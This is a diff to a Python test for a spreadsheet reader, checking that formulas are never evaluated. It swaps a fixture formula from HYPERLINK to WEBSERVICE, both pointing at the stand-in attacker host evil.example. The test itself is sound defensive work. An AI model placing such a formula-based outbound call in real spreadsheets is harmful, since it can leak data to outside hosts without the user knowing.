@@ -42,10 +42,10 @@ def test_it_keeps_a_formula_of_a_csv_file_as_text() -> None:
 
 def test_it_takes_a_formulas_result_and_never_the_formula() -> None:
     book, sheet = books.sheet_of([["Ref", "Action required"], ["1", "=1+1"]])
-    sheet["B2"] = '=HYPERLINK("http://evil.example","x")'
+    sheet["B2"] = '=WEBSERVICE("http://evil.example")'
     cell = read("a.xlsx", books.saved(book)).sheets[0].cells[2, 2]
     assert (cell.kind, cell.value) == (Kind.error, "")
-    assert cell.formula.startswith("=HYPERLINK")
+    assert cell.formula.startswith("=WEBSERVICE")
 
 
 def test_it_is_the_same_in_a_process_of_its_own() -> None:
